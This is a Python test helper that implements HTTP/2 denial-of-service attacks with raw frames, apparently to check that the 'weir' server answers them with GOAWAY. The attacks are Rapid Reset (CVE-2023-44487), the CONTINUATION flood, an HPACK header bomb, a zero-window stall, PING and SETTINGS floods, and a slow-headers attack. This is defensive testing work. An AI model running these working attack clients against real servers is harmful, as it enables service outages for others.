"""HTTP/2 attack clients for tests/it/h2/attacks.rs, written with raw frames (hyperframe,
hpack: the Python `h2` package's own dependencies).

Usage: h2_attacks.py ATTACK HOST PORT [ARG]

Each attack opens one h2c (prior knowledge) connection, attacks in one way until weir
sends GOAWAY or closes the connection (or the attack's own bound is reached), and prints
one line of `key=value` words: `goaway=REASON` (or `goaway=none`), `last_stream=N`,
`elapsed_ms=N` from the first attack frame to the GOAWAY, and what the attack sent. Every
read is bounded by a socket timeout and every loop by a count, so an attack never hangs.
"""

import socket
import sys
import time

import h2.errors
import h2.frame_buffer
import hpack
import hyperframe.frame as hf

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# No read waits longer than this; the wait for a GOAWAY after an attack is this too.
TIMEOUT_SECS = 10


class Conn:
    """One h2c connection and what weir sent on it."""

    def __init__(self, host, port, settings=None):
        self.host, self.port = host, port
        self.sock = socket.create_connection((host, int(port)), timeout=TIMEOUT_SECS)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.frames = h2.frame_buffer.FrameBuffer(server=False)
        self.frames.max_frame_size = 16384
        self.encoder = hpack.Encoder()
        self.goaway = None
        self.closed = False
        self.send_failed = False
        self.data_received = 0
        self.resets = 0
        self.statuses = 0
        # PING and SETTINGS ACKs weir sent before its GOAWAY (frames arrive in order).
        self.acks = {"ping": 0, "settings": 0}
        hello = hf.SettingsFrame(0)
        hello.settings = dict(settings or {})
        self.sock.sendall(PREFACE + hello.serialize())
        # Weir's SETTINGS come first; acknowledge them.
        while not self.closed and not any(isinstance(f, hf.SettingsFrame) for f in self.read()):
            pass
        self.send(ack_settings())

    def send(self, data):
        """Sends `data`; False once weir closed the connection."""
        try:
            self.sock.sendall(data)
            return True
        except (BrokenPipeError, ConnectionResetError, socket.timeout):
            # What weir sent before it closed may still be read.
            self.send_failed = True
            return False

    def read(self, block=True):
        """Frames that arrived (waiting for some when `block`); notes GOAWAY and close."""
        self.sock.setblocking(block)
        if block:
            self.sock.settimeout(TIMEOUT_SECS)
        try:
            data = self.sock.recv(1 << 20)
        except (BlockingIOError, InterruptedError):
            return []
        except (ConnectionResetError, socket.timeout):
            data = b""
        finally:
            self.sock.settimeout(TIMEOUT_SECS)
        if not data:
            self.closed = True
            return []
        self.frames.add_data(data)
        frames = list(self.frames)
        for frame in frames:
            if isinstance(frame, hf.GoAwayFrame) and self.goaway is None:
                self.goaway = (frame, time.monotonic())
            elif isinstance(frame, hf.DataFrame):
                self.data_received += len(frame.data)
            elif isinstance(frame, hf.RstStreamFrame):
                self.resets += 1
            elif isinstance(frame, hf.HeadersFrame):
                self.statuses += 1
            elif self.goaway is None and "ACK" in frame.flags:
                if isinstance(frame, hf.PingFrame):
                    self.acks["ping"] += 1
                elif isinstance(frame, hf.SettingsFrame):
                    self.acks["settings"] += 1
        return frames

    def done(self):
        return self.goaway is not None or self.closed or self.send_failed

    def wait_goaway(self):
        """Reads until GOAWAY or close (each read bounded by the socket timeout)."""
        for _ in range(100_000):
            if self.goaway is not None or self.closed:
                break
            self.read()

    def headers(self, stream_id, path, extra=(), end_stream=True, end_headers=True):
        fields = [
            (":method", "GET"),
            (":path", path),
            (":scheme", "http"),
            (":authority", f"{self.host}:{self.port}"),
        ] + list(extra)
        frame = hf.HeadersFrame(stream_id)
        frame.data = self.encoder.encode(fields)
        frame.flags.add("END_HEADERS") if end_headers else None
        frame.flags.add("END_STREAM") if end_stream else None
        return frame.serialize()

    def report(self, started, **sent):
        words = []
        if self.goaway is not None:
            frame, at = self.goaway
            words.append(f"goaway={h2.errors.ErrorCodes(frame.error_code).name}")
            words.append(f"last_stream={frame.last_stream_id}")
            words.append(f"elapsed_ms={int((at - started) * 1000)}")
            debug = frame.additional_data.decode(errors="replace").replace(" ", "_")
            words.append(f"debug={debug or '-'}")
        else:
            words.append("goaway=none")
        words.append(f"closed={int(self.closed)}")
        words += [f"{key}={value}" for key, value in sent.items()]
        print(" ".join(words), flush=True)


def ack_settings():
    frame = hf.SettingsFrame(0)
    frame.flags.add("ACK")
    return frame.serialize()


def rst(stream_id):
    return hf.RstStreamFrame(stream_id, error_code=h2.errors.ErrorCodes.CANCEL).serialize()


def rapid_reset(host, port, mode):
    """CVE-2023-44487: HEADERS then RST_STREAM, stream after stream, up to 5,000.
    `burst` writes them 100 pairs at a time (the codec's pending-accept limit meets
    these); `paced` sends HEADERS and a PING, and the RST only after the PING's ACK: weir
    has read the HEADERS and accepted the stream (its request has begun) when the reset
    comes, which the codec's limit does not see."""
    conn = Conn(host, port)
    started = time.monotonic()
    resets = 0
    batch = 100 if mode == "burst" else 1
    ping = hf.PingFrame(0)
    ping.opaque_data = b"syncsync"
    while resets < 5_000 and not conn.done():
        out = b""
        for _ in range(batch):
            stream_id = 1 + 2 * resets
            out += conn.headers(stream_id, "/")
            if mode == "paced":
                conn.send(out + ping.serialize())
                out = b""
                acked = False
                while not acked and not conn.done():
                    acked = any(isinstance(f, hf.PingFrame) and "ACK" in f.flags
                                for f in conn.read())
            out += rst(stream_id)
            resets += 1
        conn.send(out)
        conn.read(block=False)
    conn.wait_goaway()
    conn.report(started, resets=resets)


def continuation(host, port, _arg):
    """The 2024 CONTINUATION flood: a HEADERS without END_HEADERS, then CONTINUATION
    frames of 16 KiB of literal fields without end, up to 64 MiB."""
    conn = Conn(host, port)
    started = time.monotonic()
    conn.send(conn.headers(1, "/", end_headers=False))
    literal = hpack.Encoder()
    literal.header_table_size = 0
    block = b""
    while len(block) < 16_000:
        block += literal.encode([("x-flood", "a" * 100)], huffman=False)
    frames = 0
    while frames * len(block) < 64 * 1024 * 1024 and not conn.done():
        frame = hf.ContinuationFrame(1)
        frame.data = block
        conn.send(frame.serialize())
        frames += 1
        conn.read(block=False)
    conn.wait_goaway()
    conn.report(started, frames=frames, bytes=frames * len(block))


def bomb(host, port, streams):
    """The HTTP/2 Bomb: the client's windows are 0 (nothing weir sends can leave), one
    4 KiB field goes into the HPACK table, and each of `streams` streams carries it 15
    times (60 KiB decoded, under the 64 KiB header list limit, from 23 bytes). Streams
    go 32 at a time, keeping under weir's limit of 100 open, as a careful attacker
    would; each stays open, its response stalled."""
    conn = Conn(host, port, {hf.SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    started = time.monotonic()
    # The pseudo-header fields go into the table first, the big field last (index 62).
    out = conn.headers(1, "/", [("x-bomb", "b" * 4000)])
    pseudo = conn.encoder.encode(
        [(":method", "GET"), (":path", "/"), (":scheme", "http"),
         (":authority", f"{host}:{port}")]
    )
    sent = 1
    while sent < int(streams) and not conn.done():
        while sent - conn.resets < 96 and sent < int(streams):
            frame = hf.HeadersFrame(1 + 2 * sent)
            frame.data = pseudo + bytes([0x80 | 62]) * 15
            frame.flags.add("END_HEADERS")
            frame.flags.add("END_STREAM")
            out += frame.serialize()
            sent += 1
            if sent % 32 == 0:
                break
        conn.send(out)
        out = b""
        conn.read()
    conn.wait_goaway()
    conn.report(started, streams=sent, refused=conn.resets, heads=conn.statuses)


def stall(host, port, size):
    """A zero-window stall: GET a large body, read the first window's worth, and never
    send WINDOW_UPDATE."""
    conn = Conn(host, port)
    started = time.monotonic()
    conn.send(conn.headers(1, f"/download?bytes={size}"))
    conn.wait_goaway()
    # After GOAWAY the stream still ends (reset or cut): read until the close.
    for _ in range(1000):
        if conn.closed:
            break
        conn.read()
    conn.report(started, received=conn.data_received)


def flood(host, port, make, count):
    conn = Conn(host, port)
    started = time.monotonic()
    sent = 0
    while sent < count and not conn.done():
        if not conn.send(make() * 100):
            break
        sent += 100
        conn.read(block=False)
    conn.wait_goaway()
    return conn, started, sent


def ping_flood(host, port, count):
    """PING after PING (100 per write), reading weir's PING ACKs as they come."""
    ping = hf.PingFrame(0)
    ping.opaque_data = b"12345678"
    conn, started, sent = flood(host, port, ping.serialize, int(count))
    conn.report(started, pings=sent, acked=conn.acks["ping"])


def settings_flood(host, port, count):
    """SETTINGS after SETTINGS (100 per write), each needing an ACK from weir."""
    settings = hf.SettingsFrame(0)
    settings.settings = {hf.SettingsFrame.ENABLE_PUSH: 0}
    conn, started, sent = flood(host, port, settings.serialize, int(count))
    conn.report(started, settings=sent, acked=conn.acks["settings"])


def slow_headers(host, port, count):
    """Slowloris over HTTP/2: a HEADERS frame (END_HEADERS) whose payload comes one byte
    every 100 ms, up to `count` bytes. (CONTINUATION frames would meet the codec's cap
    on their number first.)"""
    conn = Conn(host, port)
    started = time.monotonic()
    literal = hpack.Encoder()
    literal.header_table_size = 0
    fields = [(":method", "GET"), (":path", "/"), (":scheme", "http"),
              (":authority", f"{host}:{port}"), ("x-slow", "a" * int(count))]
    frame = hf.HeadersFrame(1)
    frame.data = literal.encode(fields, huffman=False)
    frame.flags.add("END_HEADERS")
    frame.flags.add("END_STREAM")
    wire = frame.serialize()
    conn.send(wire[:9])
    sent = 0
    while sent < int(count) and not conn.done():
        conn.send(wire[9 + sent:10 + sent])
        sent += 1
        time.sleep(0.1)
        conn.read(block=False)
    conn.wait_goaway()
    conn.report(started, bytes=sent)


def reset_waiting(host, port, _arg):
    """A GET, then RST_STREAM once the test writes a line to stdin (when the backend has
    the request); then a PING, to show the connection lives on. Prints `pong=1`."""
    conn = Conn(host, port)
    conn.send(conn.headers(1, "/"))
    sys.stdin.readline()
    started = time.monotonic()
    ping = hf.PingFrame(0)
    ping.opaque_data = b"87654321"
    conn.send(rst(1) + ping.serialize())
    pong = 0
    for _ in range(1000):
        if conn.done() or pong:
            break
        pong = int(any(isinstance(f, hf.PingFrame) and "ACK" in f.flags for f in conn.read()))
    # Stay connected until the test has seen the backend's side end.
    sys.stdin.readline()
    conn.report(started, pong=pong)


ATTACKS = {
    "rapid_reset": rapid_reset,
    "continuation": continuation,
    "bomb": bomb,
    "stall": stall,
    "ping_flood": ping_flood,
    "settings_flood": settings_flood,
    "reset_waiting": reset_waiting,
    "slow_headers": slow_headers,
}

if __name__ == "__main__":
    arg = sys.argv[4] if len(sys.argv) > 4 else ""
    ATTACKS[sys.argv[1]](sys.argv[2], sys.argv[3], arg)
